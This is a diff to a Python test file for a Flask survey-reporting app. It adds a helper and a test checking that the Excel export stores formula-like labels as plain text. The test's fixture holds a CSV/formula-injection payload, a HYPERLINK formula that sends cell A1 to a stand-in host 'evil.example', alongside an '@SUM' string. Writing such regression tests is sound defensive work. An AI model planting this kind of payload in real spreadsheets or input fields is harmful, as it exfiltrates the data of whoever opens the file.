@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import copy
 import io
 from datetime import date, timedelta
 
@@ -162,6 +163,42 @@ def test_runs_reports_chart_xlsx_and_print(client: FlaskClient, app: Flask, proj
     rows = list(book["composite"].values)
     assert rows[0][:3] == ("county", "name", "estimate") and len(rows) == 1 + 6
     assert any("non-probability" in str(v) for row in book["method"].values for v in row)
+
+
+def _stored_run(app: Flask, project_id: int, *, county_label: str, item_label: str) -> int:
+    """A run of the demo questionnaire whose county c01 and item i01 carry the given labels (both languages)."""
+    with db.session_factory(app)() as session:
+        project = session.get(SurveyProject, project_id)
+        version = satisfaction.published_version(session, project)
+        definition = copy.deepcopy(version.definition)
+        question_list = {q["name"]: q["list"] for page in definition["pages"] for q in page["questions"]}
+        for choice in definition["choice_lists"][question_list["county"]]:
+            if choice["name"] == "c01":
+                choice["label"] = {"zh_CN": county_label, "en": county_label}
+        for page in definition["pages"]:
+            for question in page["questions"]:
+                if question["name"] == "i01":
+                    question["label"] = {"zh_CN": item_label, "en": item_label}
+        version.definition = definition
+        demo_satisfaction._bulk_responses(session, project, version.id, np.random.default_rng(4))
+        table = satisfaction.upload_population(session, project, demo_satisfaction.population_table(
+            np.random.default_rng(4)).to_csv(index=False).encode(), "p.csv")
+        run = satisfaction.run(session, project, table, satisfaction.default_index_config(session, project, actor_label="test"),
+                               actor_label="test")
+        session.commit()
+        return run.id
+
+
+def test_workbook_keeps_formula_looking_labels_as_text(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
+    county, item = '=HYPERLINK("http://evil.example/?d="&A1,"open")', "@SUM(A1)"
+    run_id = _stored_run(app, project_id, county_label=county, item_label=item)
+    logged_in(Role.ADMIN)
+    book = load_workbook(io.BytesIO(client.get(f"/admin/satisfaction/runs/{run_id}.xlsx").data))
+    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
+    composite = {row[0]: row for row in book["composite"].iter_rows(min_row=2, values_only=True)}
+    assert composite["c01"][1] == "'" + county and isinstance(composite["c01"][2], float)
+    items = [row for row in book["items"].iter_rows(min_row=2, values_only=True) if row[1] == "i01"]
+    assert items and {row[2] for row in items} == {"'" + item} and all(isinstance(row[7], int) for row in items)
 
 
 def test_county_links_qr_and_copy_as_template(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
